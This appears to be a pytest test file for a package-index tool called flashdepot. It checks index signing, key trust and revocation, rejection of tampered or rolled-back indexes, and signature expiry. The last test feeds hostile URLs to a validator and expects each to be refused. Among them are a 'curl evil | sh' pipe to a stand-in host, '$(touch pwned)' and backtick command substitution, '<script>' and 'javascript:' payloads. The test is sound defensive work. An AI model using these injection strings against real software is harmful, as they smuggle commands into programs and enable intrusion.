"""The list of an index is signed by who publishes it; an old one, or one with a command in it, is refused."""

import hashlib
import json
from datetime import date, timedelta
from pathlib import Path

import pytest

from flashdepot import api
from flashdepot.errors import IntegrityError, UsageError
from flashdepot.model.index_record import RECORD_NAME, IndexRecord
from flashdepot.model.remote import PublicKey, TrustedKey
from flashdepot.remotes import statements
from flashdepot.remotes.keys import new_key
from flashdepot.remotes.trust import Envelope, read_envelopes
from flashdepot.remotes.user_settings import UserSettings, today
from flashdepot.resolve.own_indexes import read_index_record
from index.conftest import Publish
from support.own_world import CONFIG
from support.wheels import WheelMaker


@pytest.fixture
def key(publish: Publish) -> PublicKey:
    """This user's own."""
    return new_key(UserSettings.of_this_user(), "ci", None).public


def envelopes(public: Path) -> list[Envelope]:
    return read_envelopes((public / f"{RECORD_NAME}.signed.json").read_bytes())


def subject(envelope: Envelope) -> tuple[str, str]:
    (found,) = json.loads(envelope.payload)["subject"]
    return found["name"], found["digest"]["sha256"]


def test_the_list_is_signed_by_who_publishes(maker, publish, public, key) -> None:
    publish(maker.make("80,90").path, maker.make("90").path)
    (signed,) = envelopes(public)
    assert subject(signed) == (RECORD_NAME, hashlib.sha256((public / RECORD_NAME).read_bytes()).hexdigest())
    assert signed.is_signed_by(key)


def test_without_a_key_nothing_is_signed(maker, publish, public) -> None:
    publish(maker.make().path)
    assert not list(public.rglob("*.signed.json"))


def test_a_signature_goes_with_the_bytes_that_it_signed(maker, publish, public, key, tmp_path, monkeypatch) -> None:
    publish(maker.make("80,90,120").path)
    before = envelopes(public)
    monkeypatch.setenv(CONFIG, str(tmp_path / "somebody"))
    publish()
    assert envelopes(public) == before
    publish(maker.make("90", profile="quick").path)
    assert not (public / f"{RECORD_NAME}.signed.json").exists()


def test_wheels_and_a_remote_are_not_taken_at_once(maker, public, publish) -> None:
    with pytest.raises(UsageError, match="not both in one run"):
        api.index(public, [maker.make().path], source="team", depot=maker.depot)
    with pytest.raises(UsageError, match="There is no remote 'team'"):
        api.index(public, source="team", depot=maker.depot)
    assert not public.exists()


def keys_of(monkeypatch: pytest.MonkeyPatch, folder: Path, *keys: TrustedKey) -> None:
    """Be another user, who trusts these keys."""
    monkeypatch.setenv(CONFIG, str(folder))
    UserSettings.of_this_user().write_keys(keys)


def test_who_trusts_keys_takes_only_an_index_that_one_of_them_has_signed(
    maker, publish, public, key, tmp_path, monkeypatch
) -> None:
    publish(maker.make().path)
    address = f"{public.as_uri()}/"
    other, day = PublicKey("other", "ab" * 32), date(2026, 1, 1)
    trusted = [(TrustedKey(other), TrustedKey(key)), (TrustedKey(key, (address,)),), ()]
    for number, keys in enumerate(trusted):
        keys_of(monkeypatch, tmp_path / f"trusts{number}", *keys)
        assert len(read_index_record(address).wheels) == 1
    refused = {
        "signed by a key that you do not trust": (TrustedKey(other),),
        "the key ci is trusted for team only": (TrustedKey(key, ("team",)),),
        "the key ci was revoked on 2026-01-01": (TrustedKey(other), TrustedKey(key, revoked=day)),
        "the key ci expired on 2026-01-01": (TrustedKey(key, expires=day),),
    }
    for number, (reason, keys) in enumerate(refused.items()):
        keys_of(monkeypatch, tmp_path / f"refuses{number}", *keys)
        with pytest.raises(IntegrityError, match=reason):
            read_index_record(address)


def test_an_index_that_was_changed_or_never_signed_is_refused_by_who_trusts_keys(maker, publish, public, key) -> None:
    publish(maker.make().path)
    record, signatures = public / RECORD_NAME, public / f"{RECORD_NAME}.signed.json"
    record.write_text(record.read_text() + " ")
    with pytest.raises(IntegrityError, match="it was changed after it was signed"):
        read_index_record(f"{public.as_uri()}/")
    signatures.write_text("[]")
    with pytest.raises(IntegrityError, match="damaged"):
        read_index_record(f"{public.as_uri()}/")
    signatures.unlink()
    with pytest.raises(IntegrityError, match="nobody has signed it") as caught:
        read_index_record(f"{public.as_uri()}/")
    assert "flashdepot keys new" in caught.value.hint


@pytest.fixture
def index(maker: WheelMaker, publish: Publish, public: Path) -> tuple[str, dict[str, bytes]]:
    """A signed index of two wheels: its address, and its record and signature when it had one wheel."""
    new_key(UserSettings.of_this_user(), "ci", None)
    publish(maker.make("80,90,120").path)
    before = {path.name: path.read_bytes() for path in public.glob(f"{RECORD_NAME}*")}
    publish(maker.make("90", profile="quick").path)
    return f"{public.as_uri()}/", before


def test_a_reader_of_a_newer_list_takes_no_older_one(index, public) -> None:
    address, before = index
    assert len(read_index_record(address).wheels) > 1
    for name, data in before.items():
        (public / name).write_bytes(data)
    with pytest.raises(IntegrityError, match="an older state"):
        read_index_record(address)


def test_a_list_that_is_shown_always_ends_until_it_is_signed_again(index, publish, monkeypatch) -> None:
    later = today() + timedelta(days=181)
    monkeypatch.setattr(statements, "today", lambda: later)
    with pytest.raises(IntegrityError, match="to be trusted until") as caught:
        read_index_record(index[0])
    assert "'flashdepot index'" in caught.value.hint
    publish()
    assert read_index_record(index[0]).wheels


@pytest.mark.parametrize(
    "url",
    [
        'https://x/"; curl evil | sh; "/',
        "https://x/$(touch pwned)/",
        "https://x/`id`/",
        "https://x/a;b/",
        "https://x/a&b/",
        "https://x/<script>/",
        "javascript:alert(1)//",
        "https://x/a\nb/",
        "https://user:password@x/",
        "https://x/\u202e/",
        "https://x/no-end",
    ],
)
def test_an_address_in_a_list_that_a_shell_reads_as_more_is_refused(url) -> None:
    with pytest.raises(ValueError, match="not the address of a folder on the web"):
        IndexRecord((), url)
    text = {"schema": 1, "kind": "an index of flashdepot", "url": url, "wheels": []}
    with pytest.raises(ValueError, match="not the address"):
        IndexRecord.from_json(text)
